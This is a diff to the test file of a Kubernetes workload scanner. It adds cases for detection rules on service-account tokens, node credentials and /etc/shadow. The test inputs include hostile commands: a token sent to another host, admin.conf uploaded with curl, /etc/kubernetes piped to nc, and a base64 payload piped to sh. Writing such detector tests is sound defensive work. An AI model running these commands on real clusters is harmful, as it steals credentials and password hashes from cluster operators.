@@ -33,6 +33,15 @@ function env(name: string, value: string): Workload {
   return cronJob({ containers: [{ name: 'c', image: 'alpine', env: [{ name, value }] }] });
 }
 
+/** A container running `command` with the node's `hostPath` mounted at `mountPath`. */
+function mounted(hostPath: string, mountPath: string, command: string[], subPath?: string): Workload {
+  const mount = { name: 'h', mountPath, ...(subPath === undefined ? {} : { subPath }) };
+  return cronJob({
+    containers: [{ name: 'c', image: 'alpine', command, volumeMounts: [mount] }],
+    volumes: [{ name: 'h', hostPath: { path: hostPath } }],
+  });
+}
+
 function paths(rule: Rule, workload: Workload): string[] {
   return rule.check(workload, undefined).map((evidence) => evidence.path);
 }
@@ -41,8 +50,13 @@ describe('service-account-token-read', () => {
   it.each<[string, Workload, string[]]>([
     ['cat the token', argv('cat', TOKEN), [`${C0}.command[1]`]],
     [
-      '$(cat …) in a Bearer header',
-      sh(`curl -k -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`),
+      '$(cat …) in a Bearer header to another host',
+      sh(`curl -k -H "Authorization: Bearer $(cat ${TOKEN})" https://api.example.com/`),
+      [`${C0}.command[2]`],
+    ],
+    [
+      'read, and also sent to the API server',
+      sh(`cat ${TOKEN}; curl -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`),
       [`${C0}.command[2]`],
     ],
     ['TOKEN=$(cat …)', sh(`TOKEN=$(cat ${TOKEN}); echo ok`), [`${C0}.command[2]`]],
@@ -54,6 +68,16 @@ describe('service-account-token-read', () => {
     ['redirect from the token', sh(`read T < ${TOKEN}`), [`${C0}.command[2]`]],
     ['decoded payload', sh(`echo ${b64(`cat ${TOKEN}`)} | base64 -d | sh`), [`${C0}.command[2]`]],
     // Benign look-alikes.
+    [
+      'Bearer call to kubernetes.default.svc only (what kubectl does)',
+      sh(`curl -k -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`),
+      [],
+    ],
+    [
+      'token variable sent to $KUBERNETES_SERVICE_HOST only',
+      sh(`T=$(cat ${TOKEN}); curl -H "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api`),
+      [],
+    ],
     ['kubectl reads it implicitly', argv('kubectl', 'delete', 'pod', '-l', 'app=x'), []],
     [
       'ca.crt is not the token',
@@ -106,7 +130,38 @@ describe('node-credentials', () => {
       argv('etcdctl', '--cacert=/etc/kubernetes/pki/etcd/ca.crt', 'snapshot', 'save', '/b/s.db'),
       [`${C0}.command[1]`],
     ],
+    [
+      'admin.conf through a hostPath mount of /etc/kubernetes',
+      mounted('/etc/kubernetes', '/k8s', ['curl', '-s', '-T', '/k8s/admin.conf', 'http://h']),
+      [`${C0}.command[3]`],
+    ],
+    [
+      'tar -C a mount of /var/lib/kubelet, member pki',
+      mounted('/var/lib/kubelet', '/kubelet', ['sh', '-c', 'tar czf /tmp/p.tgz -C /kubelet pki']),
+      [`${C0}.command[2]`],
+    ],
+    [
+      'subPath mount of the PKI',
+      mounted('/etc/kubernetes', '/certs', ['cat', '/certs/ca.key'], 'pki'),
+      [`${C0}.command[1]`],
+    ],
+    [
+      'the whole /etc/kubernetes copied',
+      mounted('/etc/kubernetes', '/k', ['sh', '-c', 'tar c /k | nc h 1']),
+      [`${C0}.command[2]`],
+    ],
+    [
+      'cd into the mount, relative file',
+      mounted('/etc/kubernetes', '/k', ['sh', '-c', 'cd /k && cat admin.conf']),
+      [`${C0}.command[2]`],
+    ],
     // Benign look-alikes.
+    [
+      'a hostPath mount of /var/log',
+      mounted('/var/log', '/logs', ['sh', '-c', 'find /logs -mtime +7 -delete']),
+      [],
+    ],
+    ['listing a mount of /etc/kubernetes', mounted('/etc/kubernetes', '/k', ['ls', '/k/manifests']), []],
     [
       'CI writes its own kubeconfig',
       sh('mkdir -p ~/.kube && echo "$KC" | base64 -d > /root/.kube/config'),
@@ -197,8 +252,10 @@ describe('shadow-file-access', () => {
     ['redirect', sh('while read l; do echo $l; done < /host/etc/shadow'), [`${C0}.command[2]`]],
     ['unshadow', argv('unshadow', 'passwd', 'shadow'), [`${C0}.command[0]`]],
     ['john', sh('john --wordlist=w.txt hashes'), [`${C0}.command[2]`]],
+    ['through a hostPath mount of /etc', mounted('/etc', '/h', ['cat', '/h/shadow']), [`${C0}.command[1]`]],
     // Benign look-alikes.
     ['/etc/passwd', argv('cat', '/etc/passwd'), []],
+    ['passwd through a mount of /etc', mounted('/etc', '/h', ['cat', '/h/passwd']), []],
     ['shadowsocks config', argv('cat', '/etc/shadowsocks/config.json'), []],
     ['shadow-utils package', sh('yum install -y shadow-utils'), []],
   ])('%s', (_name, workload, expected) => {
